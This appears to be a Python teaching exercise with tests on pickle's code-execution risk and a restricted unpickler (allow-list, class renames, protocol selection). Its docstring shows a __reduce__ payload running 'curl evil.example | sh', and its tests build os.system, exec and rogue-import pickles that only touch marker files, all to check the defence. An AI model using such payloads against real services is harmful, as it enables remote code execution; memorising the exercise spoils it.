"""serial1: pickle, and why it must never load data you did not write.

pickle saves almost any Python object (your own classes, nested structures, shared and
cyclic references) and loads it back. That is its strength and its danger: a pickle is not
data, it is a small PROGRAM for a stack machine, and one of its instructions is "import this
module, get this name from it, call it with these arguments". An object chooses what that
call is with __reduce__:

    class Payload:
        def __reduce__(self):
            return (os.system, ("curl evil.example | sh",))

    pickle.loads(pickle.dumps(Payload()))      # runs the shell command

Whoever controls the bytes controls your process. No check afterwards helps: the code has
run when pickle.loads returns. So: pickle only for data your own program wrote and nobody
else could change (a local cache, multiprocessing between your own processes). Never for
uploads, cookies, message queues anybody can write to, or files from the internet.

If you must read pickles from a place you trust less, restrict what they may name.
pickle.Unpickler.find_class(module, name) is called for every global a pickle refers to
(classes AND functions); override it to allow a short list and raise
pickle.UnpicklingError for everything else. Check BEFORE importing anything: importing a
module runs its code. find_class is also where renamed classes are handled: a pickle
stores the class's module and name at dump time ("shop.models", "Product"); if the class has
moved since, map the old name to the new one there.

Protocols: pickle's format has versions. Protocol 2 came with Python 2.3, 3 with Python 3.0,
4 with 3.4, 5 with 3.8 (it adds out-of-band buffers for large data). pickle.dumps uses
pickle.DEFAULT_PROTOCOL (4 up to Python 3.13), not the highest; a reader older than the
protocol cannot load the data at all.

Your task:

- RestrictedUnpickler.find_class(module, name): first map (module, name) through RENAMED
  (old name -> new name), then return the object only if the (possibly renamed) pair is in
  ALLOWED; otherwise raise pickle.UnpicklingError whose message names "module.name". Nothing
  outside ALLOWED may be imported or looked up.
- safe_loads(data) loads the pickle bytes `data` with RestrictedUnpickler (written for you),
  and load_stock(path) loads the pickle file at `path` the same way. stock_v1.pkl was written
  by version 1 of the app, when StockItem was called Product and lived in shop.models.
- protocol_for(version) returns the highest pickle protocol that Python `version` (a tuple
  like (3, 7)) can read, and raises ValueError for versions older than 2.3.
  dump_for(obj, version) returns pickle.dumps(obj) with that protocol.
"""

import io
import pickle


class StockItem:
    """An item in stock. Version 1 of the app called it shop.models.Product."""

    def __init__(self, sku, name, qty, price):
        self.sku, self.name, self.qty, self.price = sku, name, qty, price

    def __eq__(self, other):
        return isinstance(other, StockItem) and vars(self) == vars(other)

    def __repr__(self):
        return "StockItem(%r, %r, %r, %r)" % (self.sku, self.name, self.qty, self.price)


# Everything a stock pickle may refer to. Anything else is refused.
ALLOWED = {
    ("builtins", "set"), ("builtins", "frozenset"),
    ("datetime", "datetime"), ("datetime", "date"), ("datetime", "timedelta"),
    ("datetime", "timezone"),
    ("decimal", "Decimal"),
    (__name__, "StockItem"),
}

# Names that older versions of the app wrote into their pickles -> where they live now.
RENAMED = {
    ("shop.models", "Product"): (__name__, "StockItem"),
}


class RestrictedUnpickler(pickle.Unpickler):
    def find_class(self, module, name):
        module, name = RENAMED.get((module, name), (module, name))
        if (module, name) not in ALLOWED:
            raise pickle.UnpicklingError("refused to load the global %s.%s" % (module, name))
        return super().find_class(module, name)


def safe_loads(data):
    return RestrictedUnpickler(io.BytesIO(data)).load()


def load_stock(path):
    with open(path, "rb") as f:
        return RestrictedUnpickler(f).load()


def protocol_for(version):
    for since, protocol in (((3, 8), 5), ((3, 4), 4), ((3, 0), 3), ((2, 3), 2)):
        if tuple(version) >= since:
            return protocol
    raise ValueError("Python %s reads no protocol newer than 1" % ".".join(map(str, version)))


def dump_for(obj, version):
    return pickle.dumps(obj, protocol=protocol_for(version))


# ---------------------------------------------------------------------------------------------
# Tests. Read them, don't change them.

import os  # noqa: E402
import pickletools  # noqa: E402
import sys  # noqa: E402
from datetime import date, datetime, timedelta, timezone  # noqa: E402
from decimal import Decimal  # noqa: E402

import iolings_testkit as kit  # noqa: E402

DATA = {
    "when": datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc), "day": date(2024, 5, 1),
    "delta": timedelta(days=3), "price": Decimal("3.50"), "tags": {"a", "b"},
    "frozen": frozenset({1, 2}), "misc": [1, 2.5, "é", None, True, b"\x00\xff", (1, 2)],
    "item": StockItem("C-3", "Kaffee", 5, Decimal("4.20")),
}


def test_loads_ordinary_data():
    for protocol in (4, 5):
        try:
            got = safe_loads(pickle.dumps(DATA, protocol=protocol))
        except pickle.UnpicklingError as exc:
            raise AssertionError(
                "safe_loads refused an ordinary pickle: %s. Everything in ALLOWED must load: "
                "look the object up (e.g. super().find_class(module, name)) once you know the "
                "pair is allowed" % exc) from None
        assert got == DATA, "safe_loads must give back the same data (protocol %d)" % protocol


def _payload_ran(marker):
    if os.path.exists(marker):
        return ("LOADING THIS PICKLE RAN CODE: it created %s. pickle calls whatever "
                "callable the data names; find_class must refuse every (module, name) that "
                "is not in ALLOWED, and do it before importing or looking anything up"
                % os.path.basename(marker))
    return None


class _SystemPayload:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


class _ExecPayload:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def _refuses(data, marker, names):
    raised = None
    try:
        result = safe_loads(data)
    except pickle.UnpicklingError as exc:
        raised = exc
    except Exception as exc:  # noqa: BLE001 - judged below
        result = exc
    ran = _payload_ran(marker)
    assert ran is None, ran
    assert raised is not None, (
        "safe_loads must raise pickle.UnpicklingError for a forbidden global (%s), got %r"
        % (names, result))
    assert names in str(raised), (
        "the UnpicklingError should name the refused global, %r: %r" % (names, str(raised)))


def test_refuses_os_system(tmp_path):
    marker = str(tmp_path / "PWNED-by-os-system")
    _refuses(pickle.dumps(_SystemPayload("touch '%s'" % marker)), marker,
             "%s.system" % os.system.__module__)


def test_refuses_builtins_that_are_not_allowed(tmp_path):
    marker = str(tmp_path / "PWNED-by-exec")
    code = "open(%r, 'x', encoding='utf-8').close()" % marker
    _refuses(pickle.dumps(_ExecPayload(code)), marker, "builtins.exec")


def test_imports_nothing_it_refuses(tmp_path):
    marker = str(tmp_path / "PWNED-by-import")
    plugin = tmp_path / "evil_plugin.py"
    plugin.write_text("open(%r, 'x', encoding='utf-8').close()\nthing = 1\n" % marker,
                      encoding="utf-8")
    sys.path.insert(0, str(tmp_path))
    try:
        data = b"\x80\x04\x8c\x0bevil_plugin\x8c\x05thing\x93."  # STACK_GLOBAL evil_plugin.thing
        _refuses(data, marker, "evil_plugin.thing")
        # A name that IS allowed, in a module that is not: the pair decides, not the name.
        data = b"\x80\x04\x8c\x0bevil_plugin\x8c\x03set\x93."  # STACK_GLOBAL evil_plugin.set
        _refuses(data, marker, "evil_plugin.set")
    finally:
        sys.path.remove(str(tmp_path))
        sys.modules.pop("evil_plugin", None)


def test_loads_the_version_1_file():
    try:
        got = load_stock("stock_v1.pkl")
    except (pickle.UnpicklingError, ModuleNotFoundError, AttributeError) as exc:
        if "shop" not in str(exc):
            raise
        raise AssertionError(
            "stock_v1.pkl refers to shop.models.Product, the class's name when the file was "
            "written (%s). In find_class, map the old (module, name) through RENAMED first, "
            "then check the new pair against ALLOWED" % exc) from None
    assert got == {
        "saved": datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc),
        "items": [StockItem("A-1", "Café crème", 12, Decimal("3.50")),
                  StockItem("B-7", "Tee", 0, Decimal("2.10"))],
        "tags": {"cold", "hot"},
    }, "load_stock must return the data in the file, with StockItem objects for the old Products"
    assert [vars(item) for item in got["items"]] == [
        {"sku": "A-1", "name": "Café crème", "qty": 12, "price": Decimal("3.50")},
        {"sku": "B-7", "name": "Tee", "qty": 0, "price": Decimal("2.10")}]


def test_renames_only_the_listed_name():
    # shop.models.Order was never renamed: it must not turn into a StockItem.
    data = b"\x80\x04\x8c\x0bshop.models\x8c\x05Order\x93."  # STACK_GLOBAL shop.models.Order
    try:
        result = safe_loads(data)
    except pickle.UnpicklingError as exc:
        assert "shop.models.Order" in str(exc), (
            "the UnpicklingError should name the refused global, 'shop.models.Order': %r"
            % str(exc))
        return
    raise AssertionError(
        "safe_loads loaded shop.models.Order as %r: RENAMED maps exactly the pair "
        "('shop.models', 'Product'), not every name in that module. Look the whole pair up "
        "(RENAMED.get((module, name), (module, name))), then check ALLOWED" % (result,))


def test_load_stock_closes_the_file():
    with kit.no_leaked_files():
        load_stock("stock_v1.pkl")


def test_protocol_for_each_python():
    cases = {(2, 3): 2, (2, 7): 2, (3, 0): 3, (3, 3): 3, (3, 4): 4, (3, 7): 4, (3, 8): 5,
             (3, 12): 5, (3, 13): 5}
    got = {}
    for version in cases:
        try:
            got[version] = protocol_for(version)
        except ValueError as exc:
            raise AssertionError(
                "protocol_for(%r) raised ValueError (%s), but Python %d.%d reads protocol %d: "
                "a protocol is readable FROM the version that brought it, so compare with >="
                % (version, exc, version[0], version[1], cases[version])) from None
    assert got == cases, (
        "the highest protocol each Python reads: 2 from Python 2.3, 3 from 3.0, 4 from 3.4, "
        "5 from 3.8 (compare version tuples: (3, 7) < (3, 8))")
    try:
        protocol_for((2, 2))
    except ValueError:
        return
    assert False, "Python 2.2 reads no protocol this function knows: raise ValueError"


def _protocol_of(data):
    op, arg, _ = next(pickletools.genops(data))
    return arg if op.name == "PROTO" else 0


def test_dump_for_an_old_reader():
    for version, protocol in (((3, 7), 4), ((2, 7), 2), ((3, 11), 5)):
        data = dump_for({"a": [1, 2], "s": "é"}, version)
        assert _protocol_of(data) == protocol, (
            "dump_for(obj, %r) must write protocol %d, the highest that Python reads; this "
            "is protocol %d" % (version, protocol, _protocol_of(data)))
        assert pickle.loads(data) == {"a": [1, 2], "s": "é"}
